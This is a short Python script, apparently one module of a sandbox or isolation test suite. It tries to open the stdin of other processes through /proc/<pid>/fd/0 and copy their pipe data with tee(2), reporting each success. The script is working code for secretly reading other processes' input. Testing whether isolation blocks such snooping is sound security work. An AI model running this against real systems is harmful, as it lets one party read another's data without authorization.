"""Attack: copy another process's stdin with tee(2) on /proc/<pid>/fd/0 (reads its messages unseen)."""
import ctypes
import os

from attack import foreign_pids, play, report

libc = ctypes.CDLL(None, use_errno=True)


def tap():
    sink_r, sink_w = os.pipe()
    for pid in foreign_pids():
        try:
            fd = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            if libc.tee(fd, sink_w, 65536, 2) > 0:  # 2 = SPLICE_F_NONBLOCK
                report(f"tee on stdin of pid {pid}")
        finally:
            os.close(fd)


play(tap)
